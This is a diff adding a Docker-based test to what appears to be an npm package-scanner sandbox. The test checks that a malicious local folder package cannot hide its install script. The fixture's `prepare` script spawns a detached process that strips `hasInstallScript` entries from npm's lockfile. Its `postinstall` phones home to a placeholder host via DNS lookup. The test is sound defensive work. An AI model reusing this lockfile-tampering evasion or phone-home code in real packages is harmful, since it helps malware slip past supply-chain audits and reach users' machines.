@@ -216,3 +216,52 @@ def test_a_lock_left_as_a_fifo_or_a_link_reads_as_no_lock_at_once(docker_client,
         assert runner.read_tmp_file(PYLOCK, 1024) == b""
         assert runner.run(["sh", "-c", f"rm {PYLOCK}; echo '[lock]' > {PYLOCK}"]).exit_code == 0
         assert runner.read_tmp_file(PYLOCK, 1024) == b"[lock]\n"  # a regular file still reads
+
+
+# -------------------------------------------------------- a local folder's prepare and the lockfile npm writes (docker)
+
+# Left running by the folder's `prepare` (which npm runs while it packs the folder, in the step that fetches the tree):
+# once npm has written its lockfile, take every `hasInstallScript` out of it, so no install script step would run.
+UNFLAG = ("const fs = require('fs'); const p = '/opt/server/package-lock.json'; const end = Date.now() + 60000;"
+          "while (Date.now() < end) { try { const s = fs.readFileSync(p, 'utf8');"
+          " if (!s.includes('hasInstallScript')) continue; const l = JSON.parse(s);"
+          " for (const e of Object.values(l.packages || {})) delete e.hasInstallScript;"
+          " fs.writeFileSync(p, JSON.stringify(l, null, 2)); break; } catch (e) {} }")
+PREPARE = ("const { spawn } = require('child_process');"
+           "require('dns').lookup('prepare.phone.example.invalid', () => {});"
+           f"spawn(process.execPath, ['-e', {json.dumps(UNFLAG)}], {{detached: true, stdio: 'ignore'}}).unref();")
+PHONE = "require('dns').lookup('postinstall.phone.example.invalid', () => {});"
+
+
+@pytest.mark.docker
+def test_a_local_folders_prepare_cannot_unflag_its_install_script(docker_client, tmp_path, no_leftovers):
+    """A folder target's `prepare` runs while npm packs it, in the step that also writes npm's lockfile; the install
+    scripts to run were read from that lockfile. A process `prepare` left behind took `hasInstallScript` out of it
+    as soon as npm wrote it: the folder's own postinstall (which phones home, as it does on a user's machine, where
+    npm runs it right after `prepare` and never reads the lockfile back) never ran: no I7, and I5 did not name it."""
+    from sandbox.core import images
+    from sandbox.core.session import SandboxSession
+    from sandbox.install import container as install
+    from scanner.provenance.npm_lockfile import lockfile_tree
+
+    package = tmp_path / "folder"
+    package.mkdir()
+    (package / "package.json").write_text(json.dumps({
+        "name": "mcp-zoo-unflagger", "version": "0.1.0", "license": "MIT", "bin": {"mcp-zoo-unflagger": "index.js"},
+        "scripts": {"prepare": "node prepare.js", "postinstall": "node phone.js"}}))
+    (package / "index.js").write_text("#!/usr/bin/env node\n")
+    (package / "prepare.js").write_text(PREPARE)
+    (package / "phone.js").write_text(PHONE)
+    runtime = images.ensure_runtime_image(docker_client, "node")
+    request = InstallRequest("npm", "/opt/src/pkg", "mcp-zoo-unflagger", f"test:{uuid.uuid4()}", local_path=package)
+    with SandboxSession(docker_client) as session:
+        installed = install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
+    try:
+        refused = {(a.host, a.package, a.script) for a in installed.egress if not a.allowed}
+        assert ("postinstall.phone.example.invalid", "mcp-zoo-unflagger@0.1.0", "postinstall") in refused, refused
+        from sandbox.install.phases import NPM_PACK  # the prepare's own lookup, charged to its own step
+        assert ("prepare.phone.example.invalid", None, NPM_PACK) in refused, refused
+        assert "mcp-zoo-unflagger" in [
+            d.name for d in lockfile_tree(installed.manifest, "package-lock.json").with_install_scripts]
+    finally:
+        docker_client.images.remove(installed.image, force=True)
